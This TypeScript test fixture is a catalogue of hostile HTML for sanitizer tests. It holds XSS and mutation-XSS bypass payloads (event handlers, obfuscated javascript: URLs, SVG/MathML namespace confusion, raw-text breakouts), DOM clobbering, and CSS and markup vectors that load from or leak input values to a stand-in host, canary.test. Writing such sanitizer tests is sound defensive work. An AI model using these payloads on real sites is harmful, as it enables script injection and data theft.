// Letters that want to run, to load, to lead astray: one row each, by what they try (reliability B-113 … B-123). For tests of what cleans them, in
// tables and in a browser. `https://canary.test/` stands for whoever is not to hear of it.

export const canary = 'https://canary.test';

export const hostileMarkup: readonly (readonly [title: string, html: string])[] = [
  // B-113
  ['script', '<script>top.ran=1</script>x'],
  ['onerror', '<img src=x onerror="top.ran=1">'],
  ['svg onload', '<svg onload="top.ran=1"><script>top.ran=1</script></svg>'],
  ['body onload', '<body onload="top.ran=1">x'],
  ['a handler behind NUL, newline and slash', '<img/src=x\0 on\nerror=top.ran=1 /onerror\t=top.ran=1>'],
  ['a handler on an unknown element', '<x onclick=top.ran=1 style=display:block>x</x>'],
  ['details ontoggle', '<details open ontoggle=top.ran=1>x</details>'],
  ['autofocus', '<input autofocus onfocus=top.ran=1><a autofocus tabindex=1 onfocus=top.ran=1>x</a>'],
  // B-114
  ['javascript:', '<a href="javascript:top.ran=1">x</a>'],
  ['javascript: with entities', '<a href="j&#x61;v&Tab;ascript&colon;top.ran=1">x</a>'],
  ['javascript: over two lines', '<a href="java\nscript:top.ran=1">x</a>'],
  ['data: as a page', '<a href="data:text/html,<script>top.ran=1</script>">x</a>'],
  ['vbscript:, blob:, filesystem:', '<a href="vbscript:x">x</a><a href="blob:https://x">x</a><a href="filesystem:https://x">x</a>'],
  ['addresses without a scheme', '<a href="//evil.test">x</a><a href="\\\\evil.test">x</a><a href="/auth/logout">x</a>'],
  ['area and map', '<map name=m><area href="javascript:top.ran=1" shape=default></map><img usemap=#m src=x>'],
  // B-115, B-123
  ['svg link', '<svg><a xlink:href="javascript:top.ran=1"><text>x</text></a></svg>'],
  ['svg animate', '<svg><a><animate attributeName=href values=javascript:top.ran=1 /><text>x</text></a></svg>'],
  ['svg set', '<svg><a><set attributeName="href " to="javascript:top.ran=1"/></a></svg>'],
  [
    'svg use',
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>top.ran=1</script></svg>#x"/></svg>`,
  ],
  ['svg foreignObject', '<svg><foreignObject><iframe srcdoc="<script>top.ran=1</script>"></iframe></foreignObject></svg>'],
  [
    'svg filters',
    `<svg><filter id=f><feImage href="${canary}/fe"/></filter><rect fill="url(${canary}/fill)" mask="url(${canary}/mask)" filter="url(#f)"/></svg>`,
  ],
  ['svg image', `<svg><image href="${canary}/svg-image"/></svg><image src="${canary}/image">`],
  // B-116
  ['math href', '<math href="javascript:top.ran=1">x</math>'],
  ['math annotation', '<math><annotation-xml encoding="text/html"><script>top.ran=1</script></annotation-xml></math>'],
  ['namespace confusion', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">'],
  ['namespace confusion by form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>'],
  ['svg in math', '<math><mi><svg><style><!--</style><img src=x onerror=top.ran=1>-->'],
  // B-117
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=top.ran=1>">x</noscript>'],
  ['textarea', '<textarea><p style="x:</textarea><img src=x onerror=top.ran=1>">'],
  ['title', '<title><a title="</title><img src=x onerror=top.ran=1>">x</title>'],
  ['comments', '<!--><img src=x onerror=top.ran=1>--><!-- --!><img src=x onerror=top.ran=1>'],
  ['cdata', '<![CDATA[<img src=x onerror=top.ran=1>]]>'],
  ['template', '<template><script>top.ran=1</script></template><template shadowrootmode=open><img src=x onerror=top.ran=1></template>'],
  ['xmp', '<xmp><p title="</xmp><img src=x onerror=top.ran=1>"></xmp>'],
  ['plaintext', '<plaintext></plaintext><img src=x onerror=top.ran=1>'],
  ['style that is none', '<style><p title="</style><img src=x onerror=top.ran=1>">x'],
  ['an attribute that holds markup', '<p title="&lt;img src=x onerror=top.ran=1&gt;`\'">x</p>'],
  ['select', '<select><style></select><img src=x onerror=top.ran=1></style></select>'],
  // B-118
  ['base', `<base href="${canary}/"><a href="x">x</a><img src="y">`],
  ['meta refresh', `<meta http-equiv=refresh content="0;url=${canary}/refresh">`],
  ['forms', `<form action="${canary}/form"><input name=a><button formaction="${canary}/button">x</button></form>`],
  ['frames', `<iframe src="${canary}/iframe"></iframe><frameset><frame src="${canary}/frame"></frameset>`],
  [
    'objects',
    `<object data="${canary}/object"></object><embed src="${canary}/embed"><applet code="${canary}/applet"></applet><portal src="${canary}/portal"></portal>`,
  ],
  [
    'link',
    `<link rel=stylesheet href="${canary}/css"><link rel=preconnect href="${canary}"><link rel=dns-prefetch href="${canary}"><link rel=prefetch href="${canary}/prefetch">`,
  ],
  // B-119
  ['clobbering', '<p id=body>x</p><a id=cookie name=cookie>x</a><form id=x><input name=parentNode></form><img name=getElementById>'],
  // B-120
  [
    'pictures',
    `<img src="${canary}/img" srcset="${canary}/srcset 2x" lowsrc="${canary}/lowsrc"><picture><source srcset="${canary}/source"><img src="${canary}/picture"></picture>`,
  ],
  [
    'media',
    `<video poster="${canary}/poster" src="${canary}/video"><track src="${canary}/track"></video><audio src="${canary}/audio" autoplay></audio>`,
  ],
  ['input image', `<input type=image src="${canary}/input">`],
  ['backgrounds', `<body background="${canary}/body"><table background="${canary}/table"><td background="${canary}/td">x`],
  ['ping', `<a href="https://a.test/" ping="${canary}/ping">x</a>`],
  // B-121
  ['css url', `<p style="background:url(${canary}/url)">x</p>`],
  ['css url escaped', `<p style="background:\\75\\72\\6c(${canary}/escaped)">x</p>`],
  [
    'css image-set, cross-fade, image, src',
    `<p style="background:image-set('${canary}/set' 1x)"></p><p style="background:cross-fade(url(${canary}/fade),red)"></p><p style="background:image('${canary}/image')"></p><p style="background:src('${canary}/src')">x</p>`,
  ],
  ['css var', `<p style="--x:url(${canary}/var);background:var(--x,url(${canary}/var2))">x</p>`],
  ['css import', `<style>@import url(${canary}/import);@import "${canary}/import2";</style>x`],
  ['css font', `<style>@font-face{font-family:f;src:url(${canary}/font)}p{font-family:f}</style><p>x</p>`],
  ['css unclosed', `<p style="background:url(${canary}/unclosed">x</p>`],
  [
    'css sheet',
    `<style>body{background:url(${canary}/sheet)}p::before{content:url(${canary}/content)}p{cursor:url(${canary}/cursor),auto;list-style:url(${canary}/list)}</style><p>x</p>`,
  ],
  ['css attribute selectors', `<style>input[value^=a]{background:url(${canary}/a)}a:visited{background:url(${canary}/visited)}</style>x`],
  ['css with a comment in the middle', `<p style="background:u/**/rl(${canary}/comment);background:url/**/(${canary}/comment2)">x</p>`],
  // B-122
  [
    'covering',
    '<div style="position:fixed !important;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">x</div><div style="position:sticky">y</div>',
  ],
  ['moving', '<style>@keyframes k{from{top:0}}p{animation:k 1s infinite}</style><p style="animation:k 1s">x</p>'],
  ['expression and behaviour', '<p style="width:expression(top.ran=1);behavior:url(x);-moz-binding:url(x)">x</p>'],
];
